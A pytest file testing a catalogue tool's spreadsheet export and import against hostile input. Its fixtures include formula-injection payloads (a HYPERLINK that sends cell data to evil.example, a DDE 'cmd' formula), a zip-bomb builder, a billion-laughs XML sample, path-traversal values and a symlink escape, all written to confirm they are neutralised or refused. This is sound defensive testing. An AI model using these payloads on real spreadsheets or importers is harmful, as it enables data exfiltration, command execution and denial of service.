"""Spreadsheets as hostile input and output (issue 11): no formula out, no bomb, crash or partial write in."""

import csv
import io
import os
import re
import time
import zipfile
from pathlib import Path

import pytest
from conftest import minimal_tree
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from chophien.cli import main as cli_main
from chophien.core.text import nfc
from chophien.formats.strictyaml import parse_front_matter
from chophien.volunteer.spreadsheet.cells import CSV, XLSX, export_cell, import_cell, reads_as_formula
from chophien.volunteer.spreadsheet.export import export_spreadsheet
from chophien.volunteer.spreadsheet.importer import import_spreadsheet
from chophien.volunteer.spreadsheet.read import read_sheets
from chophien.volunteer.spreadsheet.sheet import MAX_ROWS

PRODUCT_PATH = "products/htx-che-na-hang/che-shan-tuyet.md"
# Values that Excel or LibreOffice would run as formulas, and look-alikes, in a valid product.
HOSTILE_PRODUCT = """\
---
name: "=HYPERLINK(\\"https://evil.example/?\\"&A1,\\"Xem ảnh\\")"
category: che
price: 450000
unit: "-"
min_order: "+1 hộp"
shelf_life: "'=1+1"
tags: ["-chè", "=cmd|' /C calc'!A0"]
translations:
  en:
    name: "＝1+1"
images:
  - file: che.jpg
    alt: " @SUM(1+1)"
---
- Búp chè hái từ cây cổ thụ.
- Pha nước 90 °C.
"""


def snapshot(root: Path) -> dict:
    return {p.relative_to(root): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


def rendered(result):
    return [p.render() for p in result.problems.sorted()]


def write_csv(path: Path, rows, encoding="utf-8-sig") -> Path:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows(rows)
    path.write_bytes(buffer.getvalue().encode(encoding))
    return path


# --- 1. export writes text, never formulas; import reads its own export back unchanged --------


def test_csv_export_has_no_cell_a_spreadsheet_would_evaluate(tree, tmp_path):
    content = tree(minimal_tree(**{PRODUCT_PATH: HOSTILE_PRODUCT}))
    target = tmp_path / "san-pham.csv"
    assert export_spreadsheet(content, target).written
    rows = list(csv.reader(io.StringIO(target.read_text(encoding="utf-8-sig"), newline="")))
    assert rows[1][2:8] == [
        "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Xem ảnh\")", "", "che", "450000", "'-", "'+1 hộp",
    ]  # fmt: skip
    assert "''=1+1" in rows[1] and "'＝1+1" in rows[1] and "' @SUM(1+1)" in rows[1]
    assert rows[1][-1].startswith("'- Búp chè")
    assert not [cell for row in rows for cell in row if reads_as_formula(cell)]


def test_xlsx_export_has_only_string_cells_and_no_formula(tree, tmp_path):
    content = tree(minimal_tree(**{PRODUCT_PATH: HOSTILE_PRODUCT}))
    target = tmp_path / "danh-muc.xlsx"
    assert export_spreadsheet(content, target).written
    with zipfile.ZipFile(target) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
    assert sheets and not any(re.search(rb"<f[ >]", xml) for xml in sheets)
    workbook = load_workbook(target)
    cells = [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert {c.data_type for c in cells} == {"s"}
    products = workbook["Sản phẩm"]
    name = products["C2"]
    assert name.value.startswith("=HYPERLINK(") and name.data_type == "s" and name.quotePrefix
    assert products["G2"].value == "'-"  # the text “-”, not the “remove” mark


@pytest.mark.parametrize("name", ["san-pham.csv", "danh-muc.xlsx"])
def test_hostile_values_round_trip_exactly(tree, tmp_path, name):
    content = tree(minimal_tree(**{PRODUCT_PATH: HOSTILE_PRODUCT}))
    before = snapshot(content)
    export_spreadsheet(content, tmp_path / name)
    result = import_spreadsheet(tmp_path / name, content)
    assert (rendered(result), result.changes) == ([], [])
    assert snapshot(content) == before


@pytest.mark.parametrize("name", ["san-pham.csv", "danh-muc.xlsx"])
def test_hostile_values_create_the_same_files_in_an_empty_catalogue(tree, tmp_path, name):
    content = tree(minimal_tree(**{PRODUCT_PATH: HOSTILE_PRODUCT}))
    export_spreadsheet(content, tmp_path / name)
    (content / PRODUCT_PATH).unlink()
    result = import_spreadsheet(tmp_path / name, content)
    assert rendered(result) == []
    created = parse_front_matter((content / PRODUCT_PATH).read_bytes())
    assert created.data == parse_front_matter(HOSTILE_PRODUCT.encode()).data
    text = (content / PRODUCT_PATH).read_text(encoding="utf-8")
    assert text.endswith("---\n- Búp chè hái từ cây cổ thụ.\n- Pha nước 90 °C.\n")


def test_a_dash_typed_in_excel_still_removes(tree, tmp_path):
    content = tree(minimal_tree())
    target = tmp_path / "danh-muc.xlsx"
    export_spreadsheet(content, target)
    workbook = load_workbook(target)
    workbook["Sản phẩm"]["G2"] = "-"  # Đơn vị
    workbook.save(target)
    assert rendered(import_spreadsheet(target, content)) == []
    assert "unit:" not in (content / PRODUCT_PATH).read_text(encoding="utf-8")


def test_a_dash_typed_with_an_apostrophe_in_excel_is_text(tree, tmp_path):
    content = tree(minimal_tree())
    target = tmp_path / "danh-muc.xlsx"
    export_spreadsheet(content, target)
    workbook = load_workbook(target)
    workbook["Sản phẩm"]["G2"] = "-"
    workbook["Sản phẩm"]["G2"].quotePrefix = True  # what Excel stores for '-
    workbook.save(target)
    assert rendered(import_spreadsheet(target, content)) == []
    assert '\nunit: "-"\n' in (content / PRODUCT_PATH).read_text(encoding="utf-8")


TEXT = st.text(st.characters(exclude_categories=("Cs",)), max_size=30)


@given(TEXT)
@settings(max_examples=2000, deadline=None)
def test_cell_marks_are_reversible_and_leave_no_formula(value):
    for kind in (CSV, XLSX):
        cell = export_cell(value, kind)
        assert import_cell(cell, kind)[0] == value
    assert not reads_as_formula(export_cell(value, CSV))


CELL_VALUES = st.text(
    st.characters(codec="utf-8", exclude_categories=("Cc", "Cf", "Cs", "Zl", "Zp", "Co", "Cn")),
    min_size=1,
    max_size=20,
).filter(lambda v: v == v.rstrip() and v.strip() and v.strip() != "-" and v == nfc(v))


@given(st.lists(CELL_VALUES, min_size=1, max_size=4))
@settings(max_examples=60, deadline=None)
def test_sheet_cells_read_back_as_written(tmp_path_factory, values):
    """Whatever the text, reading the exported sheet gives the exact value back (both formats)."""
    from chophien.volunteer.spreadsheet.export import _csv_bytes, _workbook_bytes
    from chophien.volunteer.spreadsheet.layout import layout

    columns = layout("cooperative")
    row = [*values, *[""] * (len(columns) - len(values))]
    folder = tmp_path_factory.mktemp("cells")
    (folder / "x.csv").write_bytes(_csv_bytes(columns, [row]))
    (folder / "x.xlsx").write_bytes(_workbook_bytes({"cooperative": (columns, [row]), "product": ((), [])}))
    for sheet in (read_sheets(folder / "x.csv")[0], read_sheets(folder / "x.xlsx")[1]):
        assert sheet.rows[0][1][: len(values)] == [v.strip() if not v[:1].isspace() else v for v in values]


# --- 2. limits checked before anything is decompressed ---------------------------------------


def zip_bomb(path: Path, sheet_bytes: int) -> Path:
    """An xlsx whose sheet unzips to *sheet_bytes* of rows, written in chunks (small in memory)."""
    source = Workbook()
    buffer = io.BytesIO()
    source.save(buffer)
    row = b'<row r="2"><c r="A2" t="inlineStr"><is><t>htx-che-na-hang</t></is></c></row>'
    with zipfile.ZipFile(buffer) as template, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as bomb:
        for item in template.infolist():
            if item.filename != "xl/worksheets/sheet1.xml":
                bomb.writestr(item, template.read(item))
        with bomb.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(
                b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
            )
            chunk = row * (1024 * 1024 // len(row))
            for _ in range(sheet_bytes // len(chunk)):
                sheet.write(chunk)
            sheet.write(b"</sheetData></worksheet>")
    return path


def test_zip_bomb_is_refused_from_the_zip_directory(tree, tmp_path, monkeypatch):
    content = tree(minimal_tree())
    bomb = zip_bomb(tmp_path / "bom.xlsx", 200 * 1024 * 1024)
    assert bomb.stat().st_size < 2 * 1024 * 1024

    def never(*args, **kwargs):
        raise AssertionError("openpyxl must not be reached")

    monkeypatch.setattr("openpyxl.load_workbook", never)
    started = time.perf_counter()
    result = import_spreadsheet(bomb, content)
    assert time.perf_counter() - started < 1
    assert rendered(result) == [
        f"{bomb.as_posix()}: lỗi: tệp .xlsx giải nén ra 200 MB, quá giới hạn 64 MB; hãy chia thành nhiều tệp "
        "(hoặc tệp đã bị làm giả)."
    ]


def raw_sheet_workbook(path: Path, sheet_data: bytes, dimension: bytes = b"A1:B2") -> Path:
    """A real workbook whose first sheet's XML is replaced (to forge rows, columns, dimensions)."""
    source = Workbook()
    buffer = io.BytesIO()
    source.save(buffer)
    xml = (
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<dimension ref="' + dimension + b'"/><sheetData>' + sheet_data + b"</sheetData></worksheet>"
    )
    with zipfile.ZipFile(buffer) as template, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for item in template.infolist():
            out.writestr(item, xml if item.filename == "xl/worksheets/sheet1.xml" else template.read(item))
    return path


def cell(ref: str, text: str) -> bytes:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'.encode()


def test_a_cell_beyond_the_declared_dimension_is_reported_not_dropped(tree, tmp_path):
    content = tree(minimal_tree())
    data = b'<row r="1">' + cell("A1", "Hợp tác xã") + cell("EZ1", "Giá") + b"</row>"
    sheet = raw_sheet_workbook(tmp_path / "x.xlsx", data)
    assert rendered(import_spreadsheet(sheet, content)) == [
        f"{sheet.as_posix()}:1:156: lỗi: ô EZ1 nằm ngoài 100 cột đầu; bảng tính nhập liệu không có nhiều cột "
        "như vậy, hãy xoá các cột thừa."
    ]


def test_a_row_far_below_is_counted_without_reading_a_million_rows(tree, tmp_path):
    content = tree(minimal_tree())
    data = (
        b'<row r="1">'
        + cell("A1", "Hợp tác xã")
        + b'</row><row r="1048576">'
        + cell("A1048576", "x")
        + b"</row>"
    )
    sheet = raw_sheet_workbook(tmp_path / "x.xlsx", data)
    started = time.perf_counter()
    assert rendered(import_spreadsheet(sheet, content)) == [
        f"{sheet.as_posix()}:1048576: lỗi: bảng tính có hơn 20.000 dòng (dòng 1048576 còn dữ liệu); hãy chia "
        "thành nhiều tệp."
    ]
    assert time.perf_counter() - started < 5


def test_too_many_csv_rows(tree, tmp_path):
    content = tree(minimal_tree())
    rows = [["Hợp tác xã", "Tên sản phẩm"]] + [["htx-che-na-hang", f"Chè {n}"] for n in range(MAX_ROWS + 1)]
    sheet = write_csv(tmp_path / "san-pham.csv", rows)
    assert rendered(import_spreadsheet(sheet, content)) == [
        f"{sheet.as_posix()}:20002: lỗi: bảng tính có hơn 20.000 dòng (dòng 20002 còn dữ liệu); hãy chia thành "
        "nhiều tệp."
    ]


# --- 2. corrupt, disguised and badly encoded files ---------------------------------------------


def _valid_xlsx() -> bytes:
    buffer = io.BytesIO()
    Workbook().save(buffer)
    return buffer.getvalue()


def _zip(members: dict) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _damaged_sheet() -> bytes:
    buffer = io.BytesIO(_valid_xlsx())
    with zipfile.ZipFile(buffer) as template:
        members = {i.filename: template.read(i) for i in template.infolist()}
    members["xl/worksheets/sheet1.xml"] = b"<worksheet><sheetData><row><c r="
    return _zip(members)


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
BROKEN_XLSX = {
    "random bytes": (
        os.urandom(4000).replace(b"PK", b"pk").replace(OLE[:2], b"xx"),
        "tệp không phải bảng tính .xlsx (hỏng hoặc sai định dạng); hãy mở bằng Excel và lưu lại dạng .xlsx.",
    ),
    "truncated": (
        _valid_xlsx()[:3000],
        "tệp .xlsx bị hỏng hoặc chưa tải về hết; hãy tải lại hoặc lưu lại bằng Excel.",
    ),
    "zip without workbook": (
        _zip({"hello.txt": "x"}),
        "tệp nén này không phải bảng tính Excel (.xlsx); hãy mở bằng Excel và lưu lại dạng .xlsx.",
    ),
    "password": (
        OLE + b"\x00" * 500 + "EncryptedPackage".encode("utf-16-le") + b"\x00" * 500,
        "bảng tính có mật khẩu; hãy mở bằng Excel, bỏ mật khẩu (Tệp → Thông tin → Bảo vệ) rồi lưu lại.",
    ),
    "xls renamed": (
        OLE + b"\x00" * 2000,
        "đây là tệp Excel cũ (.xls), không phải .xlsx; hãy mở bằng Excel và “Lưu thành” Sổ làm việc Excel (.xlsx).",
    ),
    "csv renamed": (
        "Hợp tác xã,Giá\nhtx-che-na-hang,1\n".encode(),
        "tệp này là văn bản (CSV), không phải .xlsx; hãy đổi đuôi tệp thành .csv.",
    ),
    "ods renamed": (
        _zip({"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": "<x/>"}),
        "đây là tệp LibreOffice (.ods), không phải .xlsx; hãy “Lưu thành” định dạng Excel 2007-365 (.xlsx).",
    ),
    "empty": (b"", "tệp rỗng (0 byte)."),
    "zip needing a newer unzip version": (
        _valid_xlsx().replace(b"PK\x01\x02\x14\x03\x14\x00", b"PK\x01\x02\x14\x03\xeb\x00", 1),
        "tệp .xlsx bị hỏng hoặc chưa tải về hết; hãy tải lại hoặc lưu lại bằng Excel.",
    ),
    "damaged sheet xml": (
        _damaged_sheet(),
        "không đọc được tệp .xlsx (ParseError); hãy mở bằng Excel và lưu lại.",
    ),
}


@pytest.mark.parametrize("case", list(BROKEN_XLSX))
def test_broken_xlsx_is_a_clear_message(tree, tmp_path, capsys, case):
    content = tree(minimal_tree())
    before = snapshot(content)
    data, message = BROKEN_XLSX[case]
    sheet = tmp_path / "danh-muc.xlsx"
    sheet.write_bytes(data)
    assert cli_main(["import", str(sheet), "--content", str(content)]) == 1
    out = capsys.readouterr().out.splitlines()
    assert out[0] == f"{sheet.as_posix()}: lỗi: {message}"
    assert snapshot(content) == before


BAD_CSV = {
    "latin-1 from another program": (
        "Hợp tác xã,Tên sản phẩm\nx,Café\n".encode("latin-1", errors="replace").replace(b"?", b"\xe9\xff"),
        ":1: lỗi: tệp không phải UTF-8 (dòng 1); hãy lưu lại với mã hoá UTF-8.",
    ),
    "UTF-8 with a byte-order mark, damaged on line 3": (
        b"\xef\xbb\xbf" + "Hợp tác xã,Tên tệp\nhtx-che-na-hang,a\n".encode() + b"x,\xff(\n",
        ":3: lỗi: tệp không phải UTF-8 (dòng 3); hãy lưu lại với mã hoá UTF-8.",
    ),
    "an xlsx named .csv": (
        _valid_xlsx(),
        ": lỗi: tệp này là bảng tính Excel, không phải CSV; hãy đổi đuôi tệp thành .xlsx.",
    ),
    "field over 131072 characters": (
        ("Hợp tác xã,Tên tệp,Mô tả\nhtx-che-na-hang,che-shan-tuyet," + "a" * 200_000 + "\n").encode(),
        ":2:3: lỗi: Mô tả: ô dài 200.000 ký tự, quá giới hạn 131.072.",
    ),
    "NUL byte": (
        "Hợp tác xã,Tên tệp,Đơn vị\nhtx-che-na-hang,che-shan-tuyet,gói\x00 100 g\n".encode(),
        ":2:3: lỗi: Đơn vị: ô có ký tự điều khiển hoặc vô hình U+0000 (NULL) ở vị trí 4; hãy xoá (thường do chép "
        "từ trang web, Word hoặc Zalo).",
    ),
    "NEL": (
        "Hợp tác xã,Tên tệp,Đơn vị\nhtx-che-na-hang,che-shan-tuyet,gói\u0085100 g\n".encode(),
        ":2:3: lỗi: Đơn vị: ô có ký tự điều khiển hoặc vô hình U+0085 (NEXT LINE) ở vị trí 4; hãy xoá (thường do "
        "chép từ trang web, Word hoặc Zalo).",
    ),
    "line separator": (
        "Hợp tác xã,Tên tệp,Đơn vị\nhtx-che-na-hang,che-shan-tuyet,gói\u2028100 g\n".encode(),
        ":2:3: lỗi: Đơn vị: ô có ký tự điều khiển hoặc vô hình U+2028 (LINE SEPARATOR) ở vị trí 4; hãy xoá "
        "(thường do chép từ trang web, Word hoặc Zalo).",
    ),
    "bidi override and escape": (
        "Hợp tác xã,Tên tệp,Đơn vị\nhtx-che-na-hang,che-shan-tuyet,\u202egk 1\x1b[31m\n".encode(),
        ":2:3: lỗi: Đơn vị: ô có ký tự điều khiển hoặc vô hình U+202E (RIGHT-TO-LEFT OVERRIDE) ở vị trí 1 (và 1 ký "
        "tự khác); hãy xoá (thường do chép từ trang web, Word hoặc Zalo).",
    ),
    "escape in a header": (
        "Hợp tác xã,Giá\x1b]8;;x\n".encode(),
        ":1:2: lỗi: Giá\\x1b]8;;x: ô có ký tự điều khiển hoặc vô hình U+001B (ESCAPE) ở vị trí 4; hãy xoá (thường do "
        "chép từ trang web, Word hoặc Zalo).",
    ),
}


@pytest.mark.parametrize("case", list(BAD_CSV))
def test_bad_csv_is_reported_with_row_and_column(tree, tmp_path, case):
    content = tree(minimal_tree())
    before = snapshot(content)
    data, message = BAD_CSV[case]
    sheet = tmp_path / "san-pham.csv"
    sheet.write_bytes(data)
    result = import_spreadsheet(sheet, content)
    assert rendered(result) == [sheet.as_posix() + message]
    assert not result.written and snapshot(content) == before


def test_csv_saved_by_excel_as_utf16_or_utf8_with_bom_is_read(tree, tmp_path):
    content = tree(minimal_tree())
    rows = [["Hợp tác xã", "Tên tệp", "Đơn vị"], ["htx-che-na-hang", "che-shan-tuyet", "gói 100 g"]]
    for encoding in ("utf-16", "utf-8-sig"):
        sheet = write_csv(tmp_path / f"{encoding}.csv", rows, encoding)
        assert rendered(import_spreadsheet(sheet, content, write=False)) == []


# --- 2. export faults ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("target", "message"),
    [
        ("thieu/danh-muc.xlsx", "không có thư mục “{tmp}/thieu”; hãy tạo thư mục trước."),
        ("thu-muc.xlsx", "đây là một thư mục; hãy ghi tên tệp, ví dụ danh-muc.xlsx."),
        ("danh-muc.ods", "chỉ xuất được .xlsx hoặc .csv, không phải “.ods”; ví dụ danh-muc.xlsx."),
        ("danh-muc", "chỉ xuất được .xlsx hoặc .csv, không phải “danh-muc”; ví dụ danh-muc.xlsx."),
    ],
)
def test_export_to_a_wrong_place_writes_nothing(tree, tmp_path, capsys, target, message):
    content = tree(minimal_tree())
    (tmp_path / "thu-muc.xlsx").mkdir()
    before = snapshot(tmp_path)
    path = tmp_path / target
    assert cli_main(["export", str(path), "--content", str(content)]) == 1
    assert capsys.readouterr().out.splitlines() == [
        f"{path.as_posix()}: lỗi: {message.format(tmp=tmp_path.as_posix())}",
        "Chưa ghi tệp nào.",
    ]
    assert snapshot(tmp_path) == before


def test_export_on_a_full_disk_keeps_the_old_file_and_leaves_no_temporary(
    tree, tmp_path, monkeypatch, capsys
):
    content = tree(minimal_tree())
    target = tmp_path / "danh-muc.csv"
    target.write_text("bản cũ", encoding="utf-8")

    def full(fd):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    assert cli_main(["export", str(target), "--content", str(content)]) == 1
    assert capsys.readouterr().out.splitlines()[0] == (
        f"{target.as_posix()}: lỗi: không ghi được tệp (No space left on device)."
    )
    assert sorted(p.name for p in tmp_path.iterdir()) == ["content", "danh-muc.csv"]
    assert target.read_text(encoding="utf-8") == "bản cũ"


def test_export_file_mode_follows_the_umask_not_mkstemp(tree, tmp_path):
    content = tree(minimal_tree())
    old = os.umask(0o022)
    try:
        export_spreadsheet(content, tmp_path / "danh-muc.xlsx")
    finally:
        os.umask(old)
    assert (tmp_path / "danh-muc.xlsx").stat().st_mode & 0o777 == 0o644


def test_export_warns_about_values_no_spreadsheet_can_carry(tree, tmp_path):
    story = "Chè ngon. " * 4000  # 40,000 characters: Excel keeps 32,767 and openpyxl would cut silently
    broken = "---\nname: [\n---\n"
    content = tree(
        minimal_tree(**{
            PRODUCT_PATH: HOSTILE_PRODUCT.replace("- Pha nước 90 °C.\n", story + "\n"),
            "products/htx-che-na-hang/hong.md": broken,
        })
    )  # fmt: skip
    before = snapshot(content)
    target = tmp_path / "danh-muc.xlsx"
    result = export_spreadsheet(content, target)
    problems = rendered(result)
    assert problems[0] == (
        f"content/{PRODUCT_PATH}: cảnh báo: Mô tả: dài 40.029 ký tự, Excel chỉ giữ 32.767 ký tự một ô: "
        "ô được để trống (nhập lại thì giữ nguyên); sửa trường này trong tệp."
    )
    assert problems[1].startswith("content/products/htx-che-na-hang/hong.md:3: cảnh báo: tệp có lỗi (YAML")
    assert problems[1].endswith("không xuất, chạy chophien validate để sửa.")
    assert len(problems) == 2
    imported = import_spreadsheet(target, content)
    assert (rendered(imported), imported.changes) == ([], [])
    assert snapshot(content) == before


# --- 2. import writes nothing unless every row is valid ----------------------------------------


def test_hostile_rows_write_nothing_anywhere(tree, tmp_path):
    content = tree(minimal_tree())
    outside = tmp_path / "ngoai"
    outside.mkdir()
    (content / "products/htx-evil").symlink_to(outside, target_is_directory=True)
    (content / "cooperatives/htx-evil.md").write_text(
        (content / "cooperatives/htx-che-na-hang.md").read_text(encoding="utf-8"), encoding="utf-8"
    )
    header = ["Hợp tác xã", "Tên tệp", "Tên sản phẩm", "Danh mục", "Giá", "Ảnh 1"]
    good = ["che", "120000", "none"]
    sheet = write_csv(
        tmp_path / "san-pham.csv",
        [
            header,
            ["htx-che-na-hang", "che-xanh", "Chè xanh", *good],
            ["htx-che-na-hang", "che-xanh", "Chè xanh 2", *good],
            ["htx-che-na-hang", "../x", "Chè", *good],
            ["htx-che-na-hang", "Che-Vang", "Chè", *good],
            ["htx-che-na-hang", "chè-đen", "Chè", *good],
            ["../../etc", "", "Chè", *good],
            ["htx-khong-co", "", "Chè", *good],
            ["htx-che-na-hang", "", "!!!", *good],
            ["htx-evil", "che-tron", "Chè trốn", *good],
        ],
    )
    before = snapshot(tmp_path)
    result = import_spreadsheet(sheet, content)
    csv_name = sheet.as_posix()
    assert rendered(result) == [
        f"{csv_name}:3:2: lỗi: dòng này và dòng 2 ({csv_name}) cùng ghi vào content/products/htx-che-na-hang/"
        "che-xanh.md; mỗi tệp một dòng.",
        f"{csv_name}:4:2: lỗi: Tên tệp: tên tệp “../x” phải là chữ thường không dấu, số và dấu gạch ngang, ví dụ “x”. "
        "Ví dụ: x",
        f"{csv_name}:5:2: lỗi: Tên tệp: tên tệp “Che-Vang” phải là chữ thường không dấu, số và dấu gạch ngang, ví dụ "
        "“che-vang”. Ví dụ: che-vang",
        f"{csv_name}:6:2: lỗi: Tên tệp: tên tệp “chè-đen” phải là chữ thường không dấu, số và dấu gạch ngang, ví dụ "
        "“che-den”. Ví dụ: che-den",
        f"{csv_name}:7:1: lỗi: Hợp tác xã: chưa có hợp tác xã “../../etc” (content/cooperatives/etc.md).",
        f"{csv_name}:8:1: lỗi: Hợp tác xã: chưa có hợp tác xã “htx-khong-co” (content/cooperatives/htx-khong-co.md).",
        f"{csv_name}:9:3: lỗi: Tên sản phẩm: không đặt được tên tệp từ tên “!!!” (không có chữ hay số); hãy điền cột "
        "“Tên tệp”. Ví dụ: mat-ong-bac-ha",
        f"{csv_name}:10:2: lỗi: content/products/htx-evil là liên kết tượng trưng (symlink); không ghi qua liên kết.",
    ]
    assert not result.written
    assert snapshot(tmp_path) == before
    assert list(outside.iterdir()) == []


def test_a_write_failure_on_the_second_file_leaves_every_file_as_it_was(tree, tmp_path, monkeypatch):
    content = tree(minimal_tree())
    before = snapshot(tmp_path)
    sheet = write_csv(
        tmp_path / "san-pham.csv",
        [
            ["Hợp tác xã", "Tên tệp", "Tên sản phẩm", "Danh mục", "Giá", "Ảnh 1", "Đơn vị"],
            ["htx-che-na-hang", "che-shan-tuyet", "", "", "", "", "gói 50 g"],
            ["htx-che-na-hang", "che-moi", "Chè mới", "che", "90000", "none", ""],
        ],
    )
    before[sheet.relative_to(tmp_path)] = sheet.read_bytes()
    calls = []
    real = os.fsync

    def second_fails(fd):
        calls.append(fd)
        if len(calls) == 2:
            raise OSError(28, "No space left on device")
        real(fd)

    monkeypatch.setattr(os, "fsync", second_fails)
    result = import_spreadsheet(sheet, content)
    assert rendered(result) == [
        f"{content.as_posix()}/products/htx-che-na-hang/che-moi.md: lỗi: không ghi được (No space left on device); "
        "chưa tệp nào bị thay đổi."
    ] or rendered(result)[0].endswith("không ghi được (No space left on device); chưa tệp nào bị thay đổi.")
    assert not result.written
    assert snapshot(tmp_path) == before


def replace_part(path: Path, name: str, data: bytes) -> Path:
    """A real workbook with one part replaced."""
    with (
        zipfile.ZipFile(io.BytesIO(_valid_xlsx())) as template,
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out,
    ):
        for item in template.infolist():
            out.writestr(item, data if item.filename == name else template.read(item))
    return path


def test_a_part_compressed_more_than_a_hundred_times_is_refused(tree, tmp_path, monkeypatch):
    content = tree(minimal_tree())
    rows = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>' * 100_000  # 5 MB, under the 64 MB cap
    sheet = replace_part(tmp_path / "x.xlsx", "xl/worksheets/sheet1.xml", b"<worksheet><sheetData>" + rows)
    monkeypatch.setattr("openpyxl.load_workbook", lambda *a, **k: pytest.fail("openpyxl reached"))
    (problem,) = rendered(import_spreadsheet(sheet, content))
    assert re.fullmatch(
        re.escape(sheet.as_posix())
        + r": lỗi: phần “xl/worksheets/sheet1\.xml” của tệp \.xlsx nén hơn 100 lần "
        r"\(\d+ KB → 4 MB\): tệp đã bị làm giả\.",
        problem,
    )


def test_too_many_cell_formats_are_counted_before_openpyxl_loads_them(tree, tmp_path, monkeypatch):
    content = tree(minimal_tree())
    styles = b'<styleSheet><cellXfs count="1">' + b"<xf/>" * 65_491 + b"</cellXfs></styleSheet>"
    sheet = replace_part(tmp_path / "x.xlsx", "xl/styles.xml", styles)
    monkeypatch.setattr("openpyxl.load_workbook", lambda *a, **k: pytest.fail("openpyxl reached"))
    assert rendered(import_spreadsheet(sheet, content)) == [
        f"{sheet.as_posix()}: lỗi: tệp .xlsx có 65.491 định dạng ô (tối đa 65.490); hãy chia thành nhiều tệp "
        "(hoặc tệp đã bị làm giả)."
    ]


def test_entity_expansion_in_a_sheet_is_refused(tree, tmp_path):
    """“Billion laughs”: nine entities of ten each expand to 10⁹ characters; expat refuses them."""
    content = tree(minimal_tree())
    entities = b'<!ENTITY a "aaaaaaaaaa">' + b"".join(
        b"<!ENTITY " + bytes([98 + i]) + b' "' + (b"&" + bytes([97 + i]) + b";") * 10 + b'">'
        for i in range(8)
    )
    laughs = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [' + entities + b"]>"
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        b'<row r="1"><c r="A1" t="inlineStr"><is><t>&i;</t></is></c></row></sheetData></worksheet>'
    )
    sheet = replace_part(tmp_path / "x.xlsx", "xl/worksheets/sheet1.xml", laughs)
    started = time.perf_counter()
    assert rendered(import_spreadsheet(sheet, content)) == [
        f"{sheet.as_posix()}: lỗi: không đọc được tệp .xlsx (ParseError); hãy mở bằng Excel và lưu lại."
    ]
    assert time.perf_counter() - started < 5


def test_a_workbook_with_only_the_guide_sheet_is_not_a_silent_success(tree, tmp_path):
    content = tree(minimal_tree())
    workbook = Workbook()
    workbook.active.title = "Hướng dẫn"
    workbook.active.append(["Hợp tác xã", "Tên sản phẩm"])
    workbook.save(tmp_path / "x.xlsx")
    assert rendered(import_spreadsheet(tmp_path / "x.xlsx", content)) == [
        f"{(tmp_path / 'x.xlsx').as_posix()}: lỗi: không có trang tính nào để nhập (ngoài “Hướng dẫn”)."
    ]


def test_a_part_in_utf16_cannot_hide_its_elements_from_the_count(tree, tmp_path):
    content = tree(minimal_tree())
    styles = '<?xml version="1.0" encoding="UTF-16"?><styleSheet>' + "<xf/>" * 70_000 + "</styleSheet>"
    sheet = replace_part(tmp_path / "x.xlsx", "xl/styles.xml", styles.encode("utf-16"))
    assert rendered(import_spreadsheet(sheet, content)) == [
        f"{sheet.as_posix()}: lỗi: phần “xl/styles.xml” của tệp .xlsx không mã hoá UTF-8: tệp đã bị làm giả."
    ]
